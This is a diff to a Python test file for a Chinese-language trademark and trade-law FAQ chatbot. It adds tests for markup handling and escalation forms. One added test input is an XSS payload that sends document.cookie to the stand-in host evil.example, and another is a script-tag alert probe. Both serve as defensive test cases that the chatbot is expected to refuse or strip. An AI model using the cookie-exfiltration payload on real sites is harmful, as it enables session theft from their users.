@@ -263,9 +263,16 @@ def test_a_question_wrapped_in_markup_is_answered_and_the_markup_is_not_echoed(s
     replies = chat(stack)("<p><b>我们的商标在美国被抢注了怎么办</b></p>")
     assert kinds(replies)[0] == "answer", replies
     assert "<b>" not in text_of(replies)
-    scripted = chat(stack)("<img src=x onerror=alert(1)>我们的商标在美国被抢注了怎么办")  # a script: refused
+    # a script that sends the user's cookie away is refused, whatever question sits beside it
+    scripted = chat(stack)(
+        "<img src=x onerror=fetch('https://evil.example/?c='+document.cookie)>我们的商标在美国被抢注了怎么办"
+    )
     assert first(scripted, "out_of_scope")["reason"] == "refuse" and not first(scripted, "out_of_scope").get("sources")
     assert "onerror" not in text_of(scripted)
+    # a tester's probe that only shows itself: the question beside it is answered, and the script is not echoed
+    probed = chat(stack)("<script>alert('xss')</script>请问337调查一般多久结束？")
+    assert first(probed, "answer")["sources"][0] == "faq:337-timeline", probed
+    assert "alert" not in text_of(probed) and "<script" not in text_of(probed)
 
 
 def test_asking_for_a_person_with_contacts_starts_the_form_filled_with_them(stack) -> None:
@@ -273,6 +280,12 @@ def test_asking_for_a_person_with_contacts_starts_the_form_filled_with_them(stac
     assert first(replies, "escalation")["priority"] == "normal"
     asked = first(replies, "form")["ask"]
     assert asked not in {"company", "contact"}, replies
+
+
+def test_a_number_left_with_when_to_call_it_starts_the_escalation_with_the_number_kept(stack) -> None:
+    replies = chat(stack)("刘经理 13500001111 晚上七点以后打")
+    assert first(replies, "escalation")["priority"] == "normal", replies
+    assert first(replies, "form")["ask"] != "contact", replies
 
 
 def test_a_long_story_with_a_docket_number_is_escalated_as_urgent_after_first_steps(stack) -> None:
